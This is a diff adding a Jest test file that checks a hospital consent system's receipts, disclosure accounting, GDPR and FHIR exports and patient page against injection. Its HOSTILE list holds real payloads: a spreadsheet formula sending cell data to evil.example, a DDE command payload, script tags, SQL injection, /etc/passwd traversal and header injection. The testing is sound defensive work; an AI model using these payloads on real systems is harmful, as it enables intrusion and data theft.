@@ -1,0 +1,338 @@
+/** Files of the officer's desk and the patient's page: their shapes, and that nothing put into them becomes anything else. */
+import { canonicalDigest } from '@consilium/domain';
+import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
+import { z } from 'zod';
+import { EXCLUSIONS } from '../../gateway/src/exports/disclosureAccounting.js';
+import { PAGE_POLICY } from '../../gateway/src/exports/printedPage.js';
+import { requireValidR4 } from '../../gateway/src/fhir/r4Validation.js';
+import { OWN } from '../support/consentHospital.js';
+import { BIOMEDICAL, DAY_MS } from '../support/consentOnChannel.js';
+import { OfficerDesk } from '../support/officerDesk.js';
+
+/** What each field is attacked with: formulas, markup, SQL, paths, headers, marks that turn text around. */
+const HOSTILE = [
+  '=HYPERLINK("https://evil.example/?"&A1)',
+  '+1+1',
+  "-2+3+cmd|' /C calc'!A0",
+  '@SUM(1+1)',
+  '\t=1+1',
+  '\r=1+1',
+  '\uFF1D1+1',
+  '<script>alert(1)</script>',
+  '"><img src=x onerror=alert(1)>',
+  "'; DROP TABLE event; --",
+  "' OR '1'='1",
+  '../../etc/passwd',
+  'a\r\nSet-Cookie: evil=1',
+  '\u202Egnp.exe',
+  '{{7*7}}<%= 7*7 %>',
+  'line\nbreak,"quote"',
+] as const;
+const PATIENT = '<b>P-4711</b>';
+
+let desk: OfficerDesk;
+let ref: string;
+beforeAll(async () => {
+  desk = new OfficerDesk();
+  await desk.start();
+  await desk.publish({ title: '<i>Research</i> & you', retentionDays: 30 });
+  const protocol = await desk.study();
+  const orders = HOSTILE.map((text, k) => ({
+    ...{ patient: PATIENT, kind: k === 0 ? 'grant' : 'change', reason: 'patient-asked', note: text },
+    terms: [{ code: BIOMEDICAL }, { code: 'DUO:0000026', values: [text.slice(0, 100)] }],
+  }));
+  for (const order of orders)
+    expect((await desk.as('data-steward').post('/consents/events?wait=commit', { orders: [order] })).status).toBe(201);
+  await desk.as('data-steward').post('/consents/events?wait=commit', {
+    orders: [{ patient: PATIENT, kind: 'change', reason: 'patient-asked', terms: [{ code: BIOMEDICAL }] }],
+  });
+  ref = desk.refOf(PATIENT);
+  await desk.playRound(protocol, 1, [PATIENT]);
+  const disclosed = { patient: PATIENT, resource: null };
+  for (const [k, text] of HOSTILE.entries())
+    desk.hospital.store.recordDisclosure(
+      { ...disclosed, at: desk.channel.now - k * DAY_MS, recipient: text, purpose: text, basis: text },
+      { name: 'officer', role: 'compliance-officer' },
+    );
+  for (const [basis, years] of [
+    ['authorization', 0],
+    ['Treatment', 1],
+    ['consent', 2],
+    ['required by law', 7],
+  ] as const)
+    desk.hospital.store.recordDisclosure(
+      {
+        ...disclosed,
+        at: desk.channel.now - years * 365 * DAY_MS,
+        recipient: 'another hospital',
+        purpose: 'research',
+        basis,
+      },
+      { name: 'officer', role: 'compliance-officer' },
+    );
+});
+afterAll(() => desk.stop());
+
+const file = (name: string) => desk.as('patient-desk').get(`/consents/records/${ref}/files/${name}`);
+const Time = z.iso.datetime();
+
+describe('receipts', () => {
+  const Receipt = z.strictObject({
+    schema_version: z.literal('ISO/IEC TS 27560:2023'),
+    record_id: z.string().regex(/^[0-9a-f]{32}-\d+$/),
+    pii_principal_id: z.string().regex(/^[0-9a-f]{32}$/),
+    record_creation_time: Time,
+    receipt_id: z.string().regex(/^[0-9a-f]{64}$/),
+    pii_processing: z.strictObject({
+      privacy_notice: z.string().min(1),
+      language: z.literal('en'),
+      purposes: z.array(
+        z.strictObject({
+          purpose: z.string().min(1),
+          purpose_type: z.string().regex(/^DUO:\d{7}$/),
+          lawful_basis: z.string().min(1),
+          pii_information: z
+            .array(z.strictObject({ pii_type: z.string(), sensitive_pii_category: z.literal(true) }))
+            .min(1),
+          pii_controllers: z.array(z.string()).min(1),
+          processing_method: z.string(),
+          storage_locations: z.array(z.string()).min(1),
+          withdrawal_method: z.string().min(1),
+          privacy_rights: z.array(z.string()).min(1),
+        }),
+      ),
+    }),
+    party_identification: z
+      .array(
+        z.strictObject({
+          party_id: z.string(),
+          party_name: z.string(),
+          party_role: z.literal('PII controller'),
+          party_type: z.literal('hospital'),
+        }),
+      )
+      .min(1),
+    event: z.strictObject({
+      event_time: Time,
+      validity_duration: z.string().regex(/^\S+Z\/(\S+Z|\.\.)$/),
+      entity_id: z.string().min(1),
+      event_type: z.enum(['explicit_consent', 'opt_out_of_permitted_use']),
+      event_state: z.enum([
+        'consent_given',
+        'consent_withdrawn',
+        'consent_expired',
+        'consent_refused',
+        'consent_refusal_withdrawn',
+      ]),
+      ledger: z.strictObject({ block: z.int(), transaction_id: z.string(), commitment: z.string() }).nullable(),
+    }),
+  });
+
+  test('are one an event, in the structure of ISO/IEC TS 27560, each with its own digest', async () => {
+    const receipts = z.array(Receipt).parse((await file('receipts.json')).json);
+    expect(receipts).toHaveLength(HOSTILE.length + 1);
+    for (const { receipt_id, ...receipt } of receipts) expect(receipt_id).toBe(canonicalDigest(receipt));
+    expect(new Set(receipts.map(({ record_id }) => record_id)).size).toBe(receipts.length);
+    expect(JSON.stringify(receipts)).not.toContain('P-4711');
+  });
+});
+
+describe('the accounting of disclosures', () => {
+  test('has six years, without what the rule leaves out, and uses apart', async () => {
+    const accounting = (await file('disclosures.json')).json;
+    expect(accounting).toMatchObject({ regulation: '45 CFR 164.528', patient: PATIENT });
+    const accounted = accounting.disclosures.map(({ basis }: { basis: string }) => basis);
+    expect(accounted).toHaveLength(HOSTILE.length + 1);
+    expect(accounted).toContain('consent');
+    expect(accounted).not.toContain('required by law');
+    expect(accounting.leftOut).toEqual(
+      expect.arrayContaining([
+        { rule: EXCLUSIONS.authorization, basis: 'authorization', disclosures: 1 },
+        { rule: EXCLUSIONS.treatment, basis: 'treatment', disclosures: 1 },
+      ]),
+    );
+    expect(accounting.usesNotDisclosures).toMatchObject([{ study: 'heart', round: 1, contributed: true }]);
+  });
+
+  test('as a table holds no formula', async () => {
+    const { text, headers } = await file('disclosures.csv');
+    expect(headers['content-type']).toMatch(/^text\/csv/);
+    const cells = cellsOf(text);
+    for (const row of cells.slice(1)) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r\n\uFF1D]/);
+    for (const hostile of HOSTILE)
+      expect(cells.flat().map((cell) => cell.replace(/^'/, ''))).toContain(hostile.replace(/^'/, ''));
+    expect(text).toContain('"use, not a disclosure"');
+  });
+});
+
+describe('GDPR', () => {
+  test('article 15: a copy of all, with a digest, for programs and for people', async () => {
+    const { digest, ...access } = (await file('access.json')).json;
+    expect(digest).toBe(canonicalDigest(access));
+    expect(Object.keys(access)).toEqual([
+      ...['regulation', 'controller', 'patient', 'madeAt', 'purposes', 'categoriesOfData', 'recipients', 'storage'],
+      ...['rights', 'source', 'automatedDecisions', 'consents', 'uses', 'disclosures', 'consultedBy'],
+    ]);
+    expect(access.consents[0].events).toHaveLength(HOSTILE.length + 1);
+    expect(access.consents[0].events.map(({ note }: { note: string }) => note)).toEqual(
+      expect.arrayContaining([...HOSTILE]),
+    );
+    expect(access.storage).toEqual([{ ref, keptDaysAfterLastEvent: 30, onLegalHold: false }]);
+    expect(access.recipients.map(({ who }: { who: string }) => who)).toEqual(expect.arrayContaining([...HOSTILE]));
+  });
+
+  test('article 20: what the patient provided, and nothing else', async () => {
+    const { digest, ...portable } = (await file('portable.json')).json;
+    expect(digest).toBe(canonicalDigest(portable));
+    expect(portable.consents).toHaveLength(HOSTILE.length + 1);
+    expect(JSON.stringify(portable)).not.toMatch(/heart|disclos|actor/);
+  });
+
+  test('article 30: a register with a line for each study, in three forms', async () => {
+    const ask = (form: string) => desk.as('compliance-officer').get(`/consents/files/activities.${form}`);
+    const register = (await ask('json')).json;
+    expect(register).toMatchObject({ regulation: 'GDPR article 30(1)', controller: { id: OWN, name: 'Cleveland' } });
+    expect(register.activities).toHaveLength(2);
+    expect(register.activities[1]).toMatchObject({
+      purposes: ['health or medical research'],
+      legalBasis: 'consent',
+      roundsJoined: 1,
+      erasureTimeLimit: "30 days after a record's last event",
+    });
+    for (const member of [
+      'categoriesOfDataSubjects',
+      'categoriesOfRecipients',
+      'thirdCountryTransfers',
+      'securityMeasures',
+    ])
+      expect(register.activities[1][member].length).toBeGreaterThan(0);
+    expect(cellsOf((await ask('csv')).text)).toHaveLength(3);
+    expectHarmless(await ask('html'));
+  });
+});
+
+describe('the FHIR bundle', () => {
+  test('holds the consents, who recorded them and what was done under them', async () => {
+    const bundle = (await file('bundle.json')).json;
+    const kinds = new Set(
+      bundle.entry.map(({ resource }: { resource: { resourceType: string } }) => resource.resourceType),
+    );
+    expect(kinds).toEqual(new Set(['Consent', 'Provenance', 'AuditEvent']));
+    for (const { resource } of bundle.entry) expect(await requireValidR4(resource)).toBeDefined();
+  });
+});
+
+describe('tables', () => {
+  test('of a history hold no formula, and every text as it is beside the apostrophe', async () => {
+    const { text } = await desk.as('compliance-officer').get(`/consents/records/${ref}/history?format=csv`);
+    const cells = cellsOf(text);
+    const head = cells[0] ?? [];
+    const notes = cells.slice(1).map((row) => row[head.indexOf('note')] ?? '');
+    for (const [k, hostile] of HOSTILE.entries()) {
+      expect(notes[k]).not.toMatch(/^[=+\-@\t\r\n\uFF1D]/);
+      expect([hostile, `'${hostile}`]).toContain(notes[k]);
+    }
+  });
+});
+
+describe('the patient’s page', () => {
+  test('says in plain words what I allowed, who used it and why, and how to change it', async () => {
+    const reply = await desk.as('patient-desk').get(`/consents/records/${ref}/page`);
+    expectHarmless(reply);
+    const words = reply.text.replace(/<[^>]+>/g, ' ').replace(/\s+/g, ' ');
+    expect(words).toContain('What I allowed');
+    expect(words).toMatch(/You allow the use of your data since .* research on health, medicine and biology/);
+    expect(words).toMatch(/Used in one round of training/);
+    expect(words).toMatch(/Why: /);
+    expect(words).toMatch(/You can withdraw, or allow something else, at any time/);
+    expect(words).toContain('&lt;b&gt;P-4711&lt;/b&gt;');
+    expect(words).not.toMatch(/DUO:|undefined|null|NaN|\[object/);
+  });
+
+  test('says after a withdrawal that the data is in no later study', async () => {
+    const other = new OfficerDesk();
+    await other.start();
+    try {
+      await other.publish();
+      const [one] = await other.grant('1');
+      await other.as('patient-desk').post('/consents/withdrawals', { patient: '1' });
+      const { text } = await other.as('patient-desk').get(`/consents/records/${one}/page`);
+      expect(text).toMatch(/You withdrew it on [^<]+Your data is in no study selected after that/);
+      expect(text).toContain('None so far.');
+    } finally {
+      await other.stop();
+    }
+  });
+});
+
+describe('a name', () => {
+  test.each([
+    'passwd',
+    '..%2f..%2fetc%2fpasswd',
+    'access.json%0d%0aSet-Cookie:%20a=1',
+    '__proto__',
+    'constructor',
+    'access.xml',
+  ])('%s is no file', async (name) => {
+    const reply = await file(name);
+    expect(reply).toMatchObject({ status: 400, json: { code: 'INPUT_INVALID' } });
+    expect(reply.headers['set-cookie']).toBeUndefined();
+    expect((await desk.as('compliance-officer').get(`/consents/files/${name}`)).status).toBe(400);
+  });
+
+  test.each(HOSTILE)('%j is no filter, cursor or ref', async (text) => {
+    const value = encodeURIComponent(text);
+    const before = desk.hospital.store.history({ patient: PATIENT }).length;
+    for (const name of [
+      'kind',
+      'reason',
+      'role',
+      'policyVersion',
+      'restricts',
+      'axis',
+      'order',
+      'from',
+      'to',
+      'limit',
+      'msp',
+      'cursor',
+      'format',
+      'nothing',
+    ])
+      expect((await desk.as('auditor').get(`/consents/events?${name}=${value}`)).status).toBe(400);
+    for (const query of [
+      `uses?root=${value}`,
+      `uses?study=${value}`,
+      `selections?day=${value}`,
+      `reads?ref=${value}`,
+      `withdrawals?from=${value}`,
+    ])
+      expect((await desk.as('compliance-officer').get(`/consents/${query}`)).status).toBe(400);
+    expect((await desk.as('compliance-officer').get(`/consents/records/${value}`)).status).toBe(400);
+    // A name of an actor is any text: it finds nobody.
+    expect((await desk.as('auditor').get(`/consents/events?actor=${value}`)).json).toMatchObject({ total: 0 });
+    expect(desk.hospital.store.history({ patient: PATIENT })).toHaveLength(before);
+  });
+});
+
+function expectHarmless({ text, headers }: { text: string; headers: Record<string, unknown> }): void {
+  expect(headers['content-type']).toBe('text/html; charset=utf-8');
+  expect(headers['content-security-policy']).toBe(PAGE_POLICY);
+  expect(headers['cache-control']).toBe('no-store');
+  expect(headers['x-content-type-options']).toBe('nosniff');
+  const tags = new Set([...text.matchAll(/<\/?([a-z][a-z0-9]*)/gi)].map(([, tag]) => tag));
+  for (const tag of ['script', 'img', 'b', 'i', 'iframe', 'link', 'form', 'a']) expect(tags).not.toContain(tag);
+  expect(text).not.toMatch(/\son[a-z]+=(?!&)["']/i);
+  expect(text).not.toContain('\u202E');
+  expect(PAGE_POLICY).not.toMatch(/unsafe|script-src/);
+}
+
+/** Cells of CSV in which every field is quoted. */
+function cellsOf(text: string): string[][] {
+  const rows: string[][] = [[]];
+  for (const [, cell = '', end] of text.matchAll(/"((?:[^"]|"")*)"(,|\r\n|$)/g)) {
+    rows.at(-1)?.push(cell.replaceAll('""', '"'));
+    if (end === '\r\n') rows.push([]);
+  }
+  return rows.filter((row) => row.length > 0);
+}
